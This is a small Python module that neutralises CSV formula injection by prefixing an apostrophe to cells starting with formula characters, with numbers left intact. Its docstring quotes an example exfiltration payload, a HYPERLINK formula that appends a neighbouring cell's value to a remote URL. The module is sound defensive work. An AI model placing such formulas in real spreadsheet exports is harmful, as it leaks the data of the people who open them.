"""Texts written into CSV files that people open in spreadsheets.

A cell starting with = + - @ (or a tab or carriage return) is run as a formula by Excel, LibreOffice and Google
Sheets: a recorded text (an SK reference, a unit, a post's title) such as `=HYPERLINK("http://...?d="&A1,"x")`
becomes a link sending the cells beside it away. `defused` writes such a text behind an apostrophe, which the
spreadsheet shows as text; a number (a negative one too) stays a number (OWASP, "CSV Injection").
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def defused(text: str) -> str:
    """The text as a CSV cell a spreadsheet shows and never runs."""
    if text.startswith(FORMULA_STARTS) and not _is_number(text):
        return "'" + text
    return text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
